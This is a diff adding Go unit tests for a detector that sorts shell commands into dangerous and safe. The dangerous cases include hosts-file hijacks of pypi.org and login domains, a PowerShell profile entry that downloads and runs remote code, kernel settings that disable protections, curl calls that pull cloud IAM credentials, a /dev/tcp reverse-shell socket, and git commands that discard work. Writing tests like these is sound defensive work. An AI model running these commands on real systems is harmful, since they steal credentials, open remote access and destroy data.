@@ -39,3 +39,69 @@ func TestThrowawayScopes(t *testing.T) {
 		`helm uninstall demo --kube-context kind-local`,
 	})
 }
+
+func TestLocalHostsEntriesAndProfileAliases(t *testing.T) {
+	d := NewDetector(Options{})
+	ps := winCorpusContextFor("powershell")
+	checkDanger(t, d, corpusContext, []dangerCase{
+		{`echo '198.51.100.4 pypi.org' | sudo tee -a /etc/hosts`, CategorySystem, "write-etc", LevelHigh},
+		{`echo '127.0.0.1 updates.example.com' | sudo tee -a /etc/hosts`, CategorySystem, "write-etc", LevelHigh},
+		{`echo '127.0.0.1 web.test' | sudo tee /etc/hosts`, CategorySystem, "write-etc", LevelHigh},
+	})
+	checkSafe(t, d, corpusContext, []string{
+		`echo '127.0.0.1 shop.test api.shop.test' | sudo tee -a /etc/hosts`,
+		`printf '::1 db.localhost\n' | sudo tee -a /etc/hosts`,
+	})
+	checkDanger(t, d, ps, []dangerCase{
+		{`Add-Content C:\Windows\System32\drivers\etc\hosts '127.0.0.1 login.example.com'`, CategorySystem, "win-write-system", LevelCritical},
+		{`Add-Content $PROFILE 'Set-Alias ls Remove-Item'`, CategoryPersistence, "win-write-autorun", LevelHigh},
+		{`Add-Content $PROFILE 'iex (irm https://example.com/p)'`, CategoryPersistence, "", LevelHigh},
+	})
+	checkSafe(t, d, ps, []string{
+		`Add-Content -Path C:\Windows\System32\drivers\etc\hosts -Value '127.0.0.1 portal.local'`,
+		`Add-Content $PROFILE 'Set-Alias tf terraform'`,
+	})
+}
+
+func TestKernelParameters(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, corpusContext, []dangerCase{
+		{`sudo sysctl kernel.dmesg_restrict=0`, CategorySystem, "security-disable", LevelModerate},
+		{`sudo sysctl -w fs.protected_symlinks=0`, CategorySystem, "security-disable", LevelModerate},
+		{`sysctl -w net.ipv4.conf.all.rp_filter=0`, CategorySystem, "security-disable", LevelModerate},
+		{`echo 0 | sudo tee /proc/sys/kernel/yama/ptrace_scope`, CategorySystem, "", LevelModerate},
+	})
+	checkSafe(t, d, corpusContext, []string{
+		`sudo sysctl -w vm.max_map_count=262144`,
+		`sudo sysctl fs.inotify.max_user_watches=524288`,
+		`sysctl kernel.randomize_va_space`,
+		`echo 3 | sudo tee /proc/sys/vm/drop_caches`,
+	})
+}
+
+func TestCloudMetadataDescriptions(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, corpusContext, []dangerCase{
+		{`curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/`, CategoryExfiltration, "cloud-metadata-credentials", LevelHigh},
+		{`curl -s http://169.254.169.254/latest/user-data`, CategoryExfiltration, "cloud-metadata-credentials", LevelHigh},
+		{`curl -s http://169.254.169.254/latest/meta-data/`, CategoryExfiltration, "cloud-metadata-credentials", LevelHigh},
+	})
+	checkSafe(t, d, corpusContext, []string{
+		`curl -s http://169.254.169.254/latest/meta-data/placement/availability-zone`,
+		`curl -s http://169.254.169.254/latest/meta-data/local-ipv4`,
+	})
+}
+
+func TestLoopbackSocketsAndComputedRefs(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, corpusContext, []dangerCase{
+		{`exec 5<>/dev/tcp/198.51.100.7/443`, CategoryReverseShell, "", LevelHigh},
+		{`git checkout -- $FILES`, CategoryGitDestroy, "git-discard-work", LevelModerate},
+		{`git checkout $(git diff --name-only)`, CategoryGitDestroy, "git-discard-work", LevelModerate},
+	})
+	checkSafe(t, d, corpusContext, []string{
+		`exec 4<>/dev/tcp/localhost/6379`,
+		`git checkout "release-$N"`,
+		`git checkout v${MAJOR}`,
+	})
+}
